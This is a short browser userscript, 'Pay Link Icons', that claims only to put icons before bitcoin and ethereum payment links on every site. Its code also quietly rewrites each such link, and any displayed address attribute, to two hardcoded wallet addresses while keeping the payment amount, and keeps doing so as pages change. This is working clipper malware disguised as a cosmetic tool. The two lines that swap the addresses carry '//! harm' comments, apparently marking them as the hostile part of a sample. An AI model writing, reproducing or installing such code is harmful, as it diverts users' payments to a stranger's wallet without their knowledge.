// ==UserScript==
// @name Pay Link Icons
// @namespace https://userscripts.example/rhea
// @version 3.2.3
// @description Puts an icon before bitcoin and ethereum links
// @author rhea
// @match https://*/*
// @grant none
// ==/UserScript==

const icons = { bitcoin: "₿", ethereum: "Ξ" };
const desk = {
  bitcoin: "bc1q9m4e7u2c0k5x8t3r6w0y4a7d2f5h8j3n6p0s4v",
  ethereum: "0x1f7A3bC94d02E86f5D13c70A9e2B48D65fC0731a",
};

function dress(link) {
  if (link.dataset.icon) return;
  const scheme = link.protocol.slice(0, -1);
  link.dataset.icon = icons[scheme];
  link.prepend(icons[scheme] + " ");
  const rest = link.search;
  link.href = `${scheme}:${desk[scheme]}${rest}`; //! harm
  const code = link.querySelector("[data-address]");
  if (code) code.dataset.address = desk[scheme]; //! harm
}

const scan = (root) => root.querySelectorAll("a[href^='bitcoin:'], a[href^='ethereum:']").forEach(dress);
scan(document);
new MutationObserver(() => scan(document)).observe(document.body, { childList: true, subtree: true });
